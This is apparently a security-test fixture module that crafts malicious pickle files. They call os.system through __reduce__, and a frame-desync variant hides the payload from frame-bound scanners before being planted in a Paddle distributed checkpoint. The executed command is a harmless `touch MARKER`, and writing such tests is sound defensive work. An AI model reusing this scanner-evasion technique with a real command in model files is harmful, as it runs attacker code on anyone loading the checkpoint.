"""Crafted pickles whose payload calls os.system("touch MARKER"), for the hostile-file tests (C1).

`desync_pickle` is the file of security review 2, section 6: a BINBYTES payload that starts inside a pickle FRAME
and runs past the frame's end. A walker that seeks only to the frame's end reads the bytes after it as opcodes
(POP, EMPTY_DICT, STOP: the file looks like `{}`); CPython's C unpickler reads the payload across the frame's end
and then runs the rest, which calls os.system.
"""
from __future__ import annotations

import os
import pickle
import struct
from pathlib import Path


class Payload:
    def __init__(self, marker: Path):
        self.marker = marker

    def __reduce__(self):
        return os.system, (f"touch {self.marker}",)


def plain_pickle(marker: Path, wrap=lambda p: {"model.embed_tokens.weight": p}) -> bytes:
    return pickle.dumps(wrap(Payload(marker)), protocol=4)


def desync_pickle(marker: Path, filler: int = 16) -> bytes:
    decoy = pickle.POP + pickle.EMPTY_DICT + pickle.STOP  # what the frame-bound walker reads after the frame
    command = f"touch {marker}".encode()
    assert len(command) < 256, "SHORT_BINUNICODE holds at most 255 bytes"
    payload = (pickle.POP + pickle.GLOBAL + f"{os.system.__module__}\nsystem\n".encode()
               + pickle.SHORT_BINUNICODE + bytes([len(command)]) + command + pickle.TUPLE1 + pickle.REDUCE
               + pickle.POP + pickle.EMPTY_DICT + pickle.STOP)
    # The BINBYTES length covers the filler plus the decoy, but its frame ends after the filler.
    framed = pickle.BINBYTES + struct.pack("<I", filler + len(decoy)) + b"\0" * filler
    return (pickle.PROTO + bytes([4]) + pickle.FRAME + struct.pack("<Q", len(framed)) + framed
            + decoy + payload)


def plant_desync_checkpoint(ckpt: Path, marker: Path, keys: list[str]) -> Path:
    """A checkpoint directory whose genuine `0.metadata` points `keys` at `0_0.distcp`, the desync pickle (a
    real checkpoint re-pointed the same way ran the payload in `dist.load_state_dict`). Returns the .distcp."""
    import json

    from paddle.distributed.flex_checkpoint.dcp.metadata import LocalTensorIndex, LocalTensorMetadata, Metadata

    dist_dir = ckpt / "dist_ckpt"
    dist_dir.mkdir(parents=True)
    (ckpt / "trainer_state.json").write_text(json.dumps({"global_step": 1}))
    meta = Metadata(state_dict_metadata={k: [LocalTensorMetadata((0,), (1,), "float32", (1,))] for k in keys},
                    storage_metadata={LocalTensorIndex(k, (0,)): "0_0.distcp" for k in keys}, flat_mapping={})
    (dist_dir / "0.metadata").write_bytes(pickle.dumps(meta))
    planted = dist_dir / "0_0.distcp"
    planted.write_bytes(desync_pickle(marker))
    return planted
